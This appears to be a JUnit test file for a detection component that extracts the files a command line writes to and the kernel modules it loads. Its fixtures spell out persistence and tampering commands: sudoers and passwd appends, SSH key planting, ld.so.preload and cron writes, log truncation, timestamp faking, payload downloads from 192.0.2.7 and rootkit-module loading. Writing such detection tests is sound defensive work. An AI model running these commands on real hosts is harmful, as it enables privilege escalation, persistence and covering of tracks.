package org.hansho.analyze;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import org.hansho.event.Analyzer;
import org.hansho.event.Event;
import org.hansho.event.Fields;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FileTargetAnalyzerTest {
  private static final Analyzer ANALYZER = new FileTargetAnalyzer();

  private static List<String> targets(List<String> words) {
    return added(words).getOrDefault("command.target.path", List.of());
  }

  private static List<String> modules(String line) {
    return added(List.of(line.split(" "))).getOrDefault("command.module.path", List.of());
  }

  private static Map<String, List<String>> added(List<String> words) {
    TreeSet<String> names = new TreeSet<>(ANALYZER.reads());
    names.addAll(ANALYZER.writes());
    Event event = new Event(Fields.of(names));
    event.begin(new byte[0], 0, 0, 0);
    words.forEach(word -> event.addText(event.fields().id("process.args"), word));
    event.addText(event.fields().id("process.working_directory"), "/srv");
    return Commands.added(ANALYZER, event);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      textBlock =
          """
          python3 ~ -c ~ open('/etc/crontab','a').write('x') ~ /etc/crontab
          python3.11 ~ -c ~ open("/etc/x", mode="w") ~ /etc/x
          python3 ~ -Ic ~ from pathlib import Path; Path('/etc/x').write_text('') ~ /etc/x
          python ~ -c ~ import os;os.symlink('/tmp/a','/etc/rc1.d/S1a') ~ /etc/rc1.d/S1a
          python3 ~ -c ~ p='/etc/crontab';open(p,'a').write('x') ~ /etc/crontab
          perl ~ -e ~ $f="/etc/x";open(F,">",$f) ~ /etc/x
          perl ~ -e ~ open(F,">>/etc/passwd");print F "x" ~ /etc/passwd
          perl ~ -we ~ open my $f, '>', '/etc/x' or die ~ /etc/x
          ruby ~ -e ~ File.open("/etc/x","a"){|f| f.puts 1} ~ /etc/x
          php ~ -r ~ file_put_contents("/etc/x",$k,FILE_APPEND); ~ /etc/x
          node ~ -e ~ require('fs').appendFileSync('/etc/x','y') ~ /etc/x
          python3 ~ -c ~ print(open('/etc/passwd').read()) ~ ``
          python3 ~ -c ~ print('a'.replace('b', '/etc/x')) ~ ``
          python3 ~ -c ~ p='/etc/passwd';print(open(p).read()) ~ ``
          python3 ~ -m ~ open('/etc/x','w') ~ ``
          perl ~ -e ~ open(F,"</etc/passwd") ~ ``
          """)
  void codeOnACommandLineChangesTheFilesItOpensForWriting(
      String program, String option, String code, String expected) {
    assertThat(String.join(",", targets(List.of(program, option, code)))).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          tee -a /etc/sudoers.d/x ~ /etc/sudoers.d/x
          cp key .ssh/authorized_keys ~ /srv/.ssh/authorized_keys
          cp -t /etc/cron.d job ~ /etc/cron.d/job
          cp x.timer /etc/systemd/system ~ /etc/systemd/system,/etc/systemd/system/x.timer
          ln -s /opt/x/S9x /etc/rc1.d ~ /etc/rc1.d,/etc/rc1.d/S9x
          cp authorized_keys ../srv/.ssh/. ~ /srv/.ssh,/srv/.ssh/authorized_keys
          cp .ssh/authorized_keys /backup/keys ~ /backup/keys
          cp x/sudoers ../etc ~ /etc,/etc/sudoers
          cp daemon.json /backup/docker ~ /backup/docker
          cp --target /etc/cron.d job ~ /etc/cron.d/job
          mv a b ../etc/cron.d/ ~ /etc/cron.d/a,/etc/cron.d/b
          ln -sf /opt/x /etc/rc1.d/S99x ~ /etc/rc1.d/S99x
          ln -s /opt/x ~ /srv/x
          install -m 644 -o root job /etc/cron.daily/job ~ /etc/cron.daily/job
          scp job erin@web-2:/etc/cron.d/job ~ ''
          touch -r /bin/ls -c x ./y ~ /srv/x,/srv/y
          busybox touch -r /bin/ls x ~ /srv/x
          touch --reference=/bin/ls x ~ /srv/x
          sudo -u erin touch x ~ /srv/x
          dd if=/tmp/k of=/etc/passwd ~ /etc/passwd
          chattr +i /srv/.ssh/authorized_keys ~ /srv/.ssh/authorized_keys
          chmod 600 x ~ /srv/x
          curl -fsSL http://192.0.2.7/k -o /srv/k ~ /srv/k
          curl -O http://192.0.2.7/k ~ /srv/k
          curl http://192.0.2.7/k ~ ''
          wget -q http://192.0.2.7/k ~ /srv/k
          wget -P /etc/cron.d http://192.0.2.7/k ~ /etc/cron.d/k
          wget -O - http://192.0.2.7/k ~ ''
          truncate -s 0 /var/log/wtmp ~ /var/log/wtmp
          """)
  void theFilesThatAToolChangesAreRead(String line, String expected) {
    List<String> wanted = expected.isEmpty() ? List.of() : List.of(expected.split(","));
    assertThat(targets(List.of(line.split(" ")))).isEqualTo(wanted);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          sed -i s/a/b/ /etc/group ~ /etc/group
          sed -i.bak -e s/a/b/ /etc/group ~ /etc/group
          sed s/a/b/ /etc/group ~ ''
          perl -pi -e s/a/b/ /etc/group ~ /etc/group
          sed -i -es/a/b/ /etc/group ~ /etc/group
          sed -i -fx /etc/group ~ /etc/group
          sed -ni --expression=p /etc/group ~ /etc/group
          sed s/a/b/ /etc/group -i ~ /etc/group
          sed -nfi /etc/group ~ ''
          perl -pi -es/a/b/ /etc/group ~ /etc/group
          perl -i.bak -pe s/a/b/ /etc/group ~ /etc/group
          perl -i edit.pl /etc/group ~ /etc/group
          perl -MList::Util=sum -lane print /etc/group ~ ''
          perl -Ilib -ne print /etc/group ~ ''
          ruby -rdigest -ne p /etc/group ~ ''
          ruby -i -pe 1 /etc/group ~ /etc/group
          """)
  void theFilesThatAnEditorChangesInPlaceAreRead(String line, String expected) {
    List<String> wanted = expected.isEmpty() ? List.of() : List.of(expected.split(","));
    assertThat(targets(List.of(line.split(" ")))).isEqualTo(wanted);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          echo x >> /etc/sudoers ~ /etc/sudoers
          echo x>/etc/sudoers ~ /etc/sudoers
          cd /etc/cron.d && echo x > job ~ /etc/cron.d/job
          cat < a 2>/dev/null >b ~ /srv/b
          for i in 0 1; do ln -s /x /etc/rc$i.d/S9; done ~ /etc/rc$i.d/S9
          echo "a > b" ~ ''
          make 2>&1 ~ ''
          echo k >> $HOME/.ssh/authorized_keys ~ $HOME/.ssh/authorized_keys
          ls | xargs touch -r /bin/ls ~ ''
          find /x | xargs touch -r /bin/ls y ~ /srv/y
          """)
  void scriptsOfShellsAreRead(String script, String expected) {
    List<String> wanted = expected.isEmpty() ? List.of() : List.of(expected.split(","));
    assertThat(targets(List.of("sh", "-c", script))).isEqualTo(wanted);
  }

  @ParameterizedTest
  @ValueSource(strings = {"grep > /etc/sudoers", "ls -l /etc/sudoers", "cat /etc/group"})
  void anArgumentThatLooksLikeARedirectionIsNone(String line) {
    assertThat(targets(List.of(line.split(" ")))).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          insmod ./rk.ko a=1 ~ /srv/rk.ko
          insmod -f /tmp/x.so ~ /tmp/x.so
          busybox insmod rk.ko ~ /srv/rk.ko
          kmod insmod ../opt/rk.ko ~ /opt/rk.ko
          modprobe ./rk.ko ~ /srv/rk.ko
          modprobe -d /tmp/x rk ~ /tmp/x
          """)
  void modulesThatAreLoadedByTheirFilesAreRead(String line, String expected) {
    assertThat(modules(line)).containsExactly(expected);
  }

  @ParameterizedTest
  @ValueSource(strings = {"modprobe -q tun", "kmod list", "modprobe -r x", "lsmod", "rmmod x.ko"})
  void aModuleOfTheKernelHasNoPath(String line) {
    assertThat(modules(line)).isEmpty();
  }

  @Test
  void theLastOfManyTargetsIsKept() {
    List<String> words = new ArrayList<>(List.of("tee"));
    for (int i = 0; i < 100; i++) {
      words.add("/tmp/" + i);
    }
    words.add("/etc/cron.d/x");
    assertThat(targets(words)).hasSize(32).startsWith("/tmp/0").endsWith("/etc/cron.d/x");
  }

  @Test
  void aLineWithoutArgumentsIsReadAsAShellWould() {
    assertThat(Commands.analyzeLine(ANALYZER, "echo x >> /etc/sudoers"))
        .containsEntry("command.target.path", List.of("/etc/sudoers"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      textBlock =
          """
          sh -c 'echo x > /etc/ld.so.preload' ~ /etc/ld.so.preload
          sh -c echo x > /etc/ld.so.preload ~ /etc/ld.so.preload
          bash -c echo "* * * * * root /opt/x" > /etc/cron.d/x; id ~ /etc/cron.d/x
          /bin/sh -c "echo "a b" >> /etc/sudoers" ~ /etc/sudoers
          sh -c "echo \\"a b\\" >> /etc/sudoers" ~ /etc/sudoers
          """)
  void aScriptIsReadHoweverItsQuotesWereWritten(String line, String expected) {
    TreeSet<String> names = new TreeSet<>(ANALYZER.reads());
    names.addAll(ANALYZER.writes());
    Event event = new Event(Fields.of(names));
    event.begin(new byte[0], 0, 0, 0);
    event.addText(event.fields().id("process.command_line"), line);
    assertThat(Commands.added(ANALYZER, event).get("command.target.path"))
        .containsExactly(expected);
  }
}
